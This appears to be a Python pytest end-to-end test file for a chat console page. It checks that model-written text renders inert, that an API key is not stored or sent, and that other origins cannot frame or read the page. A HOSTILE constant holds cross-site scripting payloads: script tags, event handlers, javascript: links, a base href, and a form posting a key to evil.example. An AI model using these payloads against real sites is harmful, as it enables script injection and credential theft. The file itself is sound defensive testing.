"""What the console's page adds to what can be attacked, seen in Chromium: T28, and the key."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest

from tests.clients.page_server import page_server
from tests.console.browser import Browser, Page
from tests.console.test_chat import chat
from tests.e2e.environment import Stage, open_stage

pytestmark = pytest.mark.e2e
Opened = Callable[..., Page]
KEY = "console-key-0123456789-abcdefghijklmnop"
HOSTILE = """\
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg><iframe src="/docs"></iframe><base href="https://evil.example/">

[one](javascript:window.pwned=4) [two](data:text/html,<script>window.pwned=5</script>)
[three](vbscript:x) <a href="javascript:window.pwned=6">four</a> ![track](https://evil.example/t.png)
![spy](/sessions) <form action="https://evil.example"><input name=key><button>Send</button></form>

<style>body { display: none }</style>
<div style="position: fixed; inset: 0; background: red" class="dock" id="question">Allow?</div>

`<img src=x onerror=window.pwned=7>` and **<b onclick="window.pwned = 8">bold</b>**

| <script>window.pwned=9</script> | a |
|---|---|
| [x](javascript:window.pwned=10) | <img src=x onerror=window.pwned=11> |

```html" onload="window.pwned=12
<script>window.pwned = 13</script>
```

- <details open ontoggle="window.pwned=14"><summary>x</summary></details>

The end"""
ALLOWED = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H3", "H4", "H5", "H6", "HR",
    "IMG", "LI", "OL", "P", "PRE", "S", "SPAN", "STRONG", "SUB", "SUP", "TABLE", "TBODY", "TD",
    "TH", "THEAD", "TR", "UL",
}  # fmt: skip


@pytest.fixture(scope="module")
def keyed(real_claude: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A server with keys."""
    folder = tmp_path_factory.mktemp("keyed")
    with open_stage(folder, real_claude, COWORK_API_KEYS=f"me={KEY}") as opened:
        yield opened


def with_key(opened: Opened, stage: Stage, project: str) -> Page:
    page = opened(chat(stage, project))
    page.wait("dialog[open]")
    page.fill("#ask-key", KEY)
    page.press("Enter")
    page.wait(".empty")
    return page


def test_t28_what_a_model_writes_is_text_whatever_it_is(keyed: Stage, opened: Opened) -> None:
    page = with_key(opened, keyed, "hostile")
    page.ask(f"[[say {HOSTILE}]]")
    page.answered()
    page.call("reload")
    page.wait(".turn .prose")
    page.wait_until("document.querySelector('.prose').textContent.trim().endsWith('The end')")
    assert page.evaluate("window.pwned ?? null") is None
    found = page.evaluate(
        "[...document.querySelectorAll('.prose *')].map((each) =>"
        " [each.tagName, [...each.attributes].map((one) => [one.name, one.value])])"
    )
    assert {tag for tag, _ in found} <= ALLOWED
    attributes = [(tag, name, value) for tag, given in found for name, value in given]
    assert not [each for each in attributes if each[1].startswith("on") or each[1] == "style"]
    assert not [each for each in attributes if "question" in each or "dock" in each]
    links = [value for tag, name, value in attributes if (tag, name) == ("A", "href")]
    assert "https://evil.example/t.png" in links
    assert all(link.startswith(("https://", "http://")) for link in links)
    assert page.evaluate("document.baseURI").startswith(keyed.server.url)
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.evaluate("document.elementFromPoint(640, 760).closest('.composer') !== null")
    asked = page.call("requests")
    assert not [each for each in asked if keyed.server.url not in each and "data:" not in each]


def test_t28_the_key_stays_in_its_tab_and_goes_with_it(keyed: Stage, opened: Opened) -> None:
    page = with_key(opened, keyed, "key")
    page.ask("[[say taken]]")
    page.answered()
    kept = page.evaluate("[localStorage.length, document.cookie, location.href]")
    assert kept[:2] == [0, ""]
    assert KEY not in kept[2]
    assert KEY not in page.evaluate("document.documentElement.outerHTML")
    assert not [each for each in page.call("requests") if KEY in each]
    page.call("reload")
    page.wait(".turn .prose")
    beside = opened(chat(keyed, "key"), beside=page)
    beside.wait("dialog[open]")
    page.click("text=Forget the key")
    page.wait("dialog[open]")
    assert KEY not in page.evaluate("JSON.stringify(sessionStorage)")


def test_a_wrong_key_is_asked_for_again_and_a_right_one_shows_all(
    keyed: Stage, opened: Opened
) -> None:
    page = opened(chat(keyed, "wrong key"))
    page.wait("dialog[open]")
    page.fill("#ask-key", "w" * 40)
    page.press("Enter")
    page.wait_until("document.querySelector('dialog h2')?.textContent === 'This key is not taken'")
    page.fill("#ask-key", KEY)
    page.press("Enter")
    page.wait(".empty")
    page.ask("[[say right]]")
    page.answered()
    assert page.answer() == "right"


def test_t28_another_page_can_neither_frame_it_nor_read_it(
    keyed: Stage, browser: Browser, opened: Opened
) -> None:
    del browser
    with page_server() as origin:
        page = opened(origin)
        address = json.dumps(keyed.server.url)
        read = f"fetch({address} + '/').then(() => 'read', (fault) => String(fault))"
        assert "Failed to fetch" in page.evaluate(read)
        page.evaluate(
            "new Promise((done) => document.body.append(Object.assign("
            f"document.createElement('iframe'), {{src: {address} + '/', onload: () => done()}})))"
        )
        page.sleep(300)
        assert page.evaluate("document.querySelector('iframe').contentDocument") is None
        assert "frame" in " ".join(page.call("problems")).lower()
        page.forget()


def test_long_answers_leave_the_page_its_time(stage: Stage, opened: Opened) -> None:
    page = opened(chat(stage, "long"))
    page.wait(".empty")
    code = "\n".join(f"line {n} = {n} * 2" for n in range(5000))
    question = f"[[delay 0]] [[say Look:\n\n```python\n{code}\n```\n\nThat is all.]]"
    # Playwright types it as a person would, which takes Chromium minutes.
    page.evaluate(f"document.getElementById('question').value = {json.dumps(question)}")
    page.press("Enter")
    page.answered()
    page.wait_until("document.querySelector('.turn .blocks').textContent.includes('That is all')")
    text = page.evaluate("document.querySelector('.turn .code code').textContent")
    assert text.splitlines() == code.splitlines()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.ask("[[big 300000]]")
    page.wait_until("document.querySelectorAll('.turn .foot:not([hidden])').length === 2")
    page.wait_until(
        "document.querySelector('.turn:last-child .blocks').textContent.length >= 299000"
    )
    # Many blocks, of which each was rendered once.
    assert page.count(".turn:last-child .prose > *") > 50
